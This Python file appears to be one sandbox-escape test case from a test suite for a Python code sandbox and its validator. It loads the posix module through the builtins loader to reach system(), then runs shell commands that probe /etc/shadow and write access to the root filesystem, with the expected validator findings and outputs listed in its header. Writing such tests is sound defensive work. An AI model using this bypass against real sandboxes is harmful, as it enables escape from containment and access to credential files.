# row: B03
# attack: Loader: `__loader__.load_module('posix').system(...)`. In the sandbox the program's own
#   `__loader__` is a SourceFileLoader for main.py, so the program falls back to the builtins module's
#   `__loader__` (BuiltinImporter), reached through `__builtins__`, and loads posix by name.
# v-on-finding: rule=name.denied source=ast text='__loader__'
# v-on-finding: rule=name.denied source=ast text='__builtins__'
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B03
# limits: wall_time_s=5
import warnings

SHELL = (
    "id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B03"
)

warnings.simplefilter("ignore", DeprecationWarning)  # load_module() is deprecated, not gone
builtins_ns = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
system = None
for name, loader in (("__loader__", __loader__), ("__builtins__['__loader__']", builtins_ns["__loader__"])):
    try:
        system = loader.load_module("posix").system
    except Exception as exc:
        print(f"{name}.load_module('posix'): failed: {type(exc).__name__}: {exc}")
    else:
        print(f"{name}.load_module('posix'): loaded")
        break
if system is None:
    print("system() not reached")
else:
    print("system() reached", flush=True)
    print(f"system() exit status {system(SHELL)}")
